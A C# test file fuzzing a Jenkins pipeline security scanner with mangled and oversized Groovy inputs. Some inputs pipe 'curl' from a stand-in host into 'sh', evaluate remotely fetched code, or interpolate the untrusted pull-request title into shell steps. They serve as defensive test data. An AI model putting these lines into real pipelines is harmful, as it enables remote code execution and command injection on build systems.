using CsCheck;
using PoPipeline.Judging;
using PoPipeline.Rules.Model;
using PoPipeline.Rules.Model.Policies;
using PoPipeline.Sources;

namespace PoPipeline.Tests.Jenkins;

/// <summary>Whatever a file of Groovy holds, reading and judging it ends, and ends without an exception.</summary>
public sealed class JenkinsRobustnessTests
{
    private const int Runs = 500;

    private static readonly string[] Pieces =
    [
        "${", "}", "{", "(", ")", "[", "]", "'", "\"", "'''", "\"\"\"", "/", "$/", "\\", "\n", "\r\n", ":", "?", ",", ";", "=", "@Library('a@b') _\n", "stage('x') {", "parallel a: {", "sh ", "sh(script: ", "node(", "pipeline {", "agent { docker { image ", "when { expression { ",
        "withCredentials([string(credentialsId: 'a', variable: 'B')]) {", "withEnv([\"A=${env.CHANGE_TITLE}\"]) {", "env.CHANGE_TITLE", "params.X", "input ", "checkout(", "def a = a + b\n", "environment { A = credentials('x')", "matrix { axes { axis {", "podTemplate(yaml: '''\na: b\n", "catchError(", "try {", "} catch (e) {",
        "return this", "evaluate(", "\0", "\uFEFF", "\uD83D", "library ", "copyArtifacts(projectName: ", "properties([", "triggers { GenericTrigger(token: ", "docker.image('x').inside(", "load 'jenkins/c.groovy'", "sh libraryResource('vars/a.groovy')", "a.call(x: ", "new B(this).", "writeFile file: 'a', text: ", "withVault([vaultSecrets: [[vaultKey: ", "sshagent(['x']) {", "evaluate(httpRequest('https://a.b').content)", "@NonCPS\ndef x() { sh 'x' }\n", "// po: ignore PO3211",
    ];

    [Fact]
    public void A_mangled_pipeline_is_collected_judged_and_reported() =>
        Mangling.Of(() => GroovySamples.All, Pieces, fewest: 1, longest: 60).Sample(Judge, iter: Mangling.Runs(Runs));

    public static TheoryData<string, string> Bombs() => new()
    {
        { "closures", string.Concat(Enumerable.Repeat("node {", 10_000)) + "sh 'x'" + new string('}', 10_000) },
        { "stages", "pipeline { agent any\n stages {" + string.Concat(Enumerable.Range(0, 3000).Select(stage => $"stage('s{stage}') {{ steps {{ sh \"echo ${{env.CHANGE_TITLE}}\" }} }}\n")) + "} }" },
        { "one name of a stage", "pipeline { agent any\n stages {" + string.Concat(Enumerable.Repeat("stage('s') { steps { sh 'x' } }\n", 3000)) + "} }" },
        { "branches", "parallel(" + string.Concat(Enumerable.Range(0, 3000).Select(branch => $"b{branch}: {{ node('x') {{ sh 'x' }} }},\n")) + ")" },
        { "variables that are made of each other", string.Concat(Enumerable.Range(0, 5000).Select(number => $"def v{number} = \"${{v{number + 1}}}\"\n")) + "node { sh v0 }" },
        { "one variable", "def v = ''\n" + string.Concat(Enumerable.Repeat("v = v + v + env.CHANGE_TITLE\n", 5000)) + "node { sh v }" },
        { "methods that call each other", string.Concat(Enumerable.Range(0, 2000).Select(number => $"def m{number}(a) {{ return m{number + 1}(a) + m{number + 2}(a) }}\n")) + "node { sh m0(env.CHANGE_TITLE) }" },
        { "a text of a megabyte", "node { sh \"\"\"" + string.Concat(Enumerable.Repeat("echo ${env.CHANGE_TITLE}\n", 40_000)) + "\"\"\" }" },
        { "secrets in secrets", string.Concat(Enumerable.Range(0, 150).Select(number => $"withCredentials([string(credentialsId: 'c{number}', variable: 'V{number}')]) {{\n")) + string.Concat(Enumerable.Range(0, 150).Select(number => $"sh \"echo $V{number}\"\n")) + new string('}', 150) },
        { "steps", "node {\n" + string.Concat(Enumerable.Repeat("sh 'curl -k https://a.b | sh'\n", 20_500)) + "}" },
        { "checkouts of changes", "node {\n" + string.Concat(Enumerable.Repeat("checkout([branches: [[name: 'refs/pull/1/head']]])\nsh 'make'\n", 2000)) + "}" },
        { "a text of half a megabyte", "node { sh \"\"\"" + string.Concat(Enumerable.Repeat("echo ${env.CHANGE_TITLE}\n", 19_000)) + "\"\"\" }" },
        { "steps and files that call and load each other", string.Concat(Enumerable.Range(0, 1500).Select(number => $"def m{number}(Map g) {{ def x = load 'jenkins/c.groovy'; x.m{number + 1}(t: g.t, u: env.CHANGE_TITLE); a.m{number + 1}(t: g.u, u: g.t) }}\n")) + "node { a.m0(t: env.CHANGE_TITLE) }" },
        { "axes", "pipeline { agent any\n stages { stage('a') { matrix { axes {" + string.Concat(Enumerable.Range(0, 5000).Select(axis => $"axis {{ name 'A{axis}'; values 'a', 'b' }}\n")) + "} stages { stage('b') { steps { sh 'x' } } } } } } }" },
    };

    [Theory]
    [MemberData(nameof(Bombs))]
    public async Task A_bomb_is_read_in_bounded_time(string name, string text)
    {
        // Generous, since other tests run at the same time: what is bounded takes a second or two, what is not would take days.
        await Task.Run(() => Judge(text), TestContext.Current.CancellationToken).WaitAsync(TimeSpan.FromSeconds(90), TestContext.Current.CancellationToken);
        Assert.NotEmpty(name);
    }

    private static void Judge(string text)
    {
        using var tree = new TempTree();
        tree.Write("Jenkinsfile", text).Write("vars/a.groovy", text).Write("src/a/B.groovy", text).Write("jenkins/c.groovy", text);
        var snapshot = new Collector(new FixedTime(CaseTree.ObservedAt)).Collect(new CollectionRequest { Root = tree.Root, Policy = new Policy(), UseGit = false });
        var assessment = Assessor.Assess(snapshot, RuleSet.All);
        Assert.DoesNotContain(assessment.Judgements.SelectMany(judgement => judgement.Verdict.Gaps), gap => gap.Reason.StartsWith("the rule threw", StringComparison.Ordinal));
    }
}
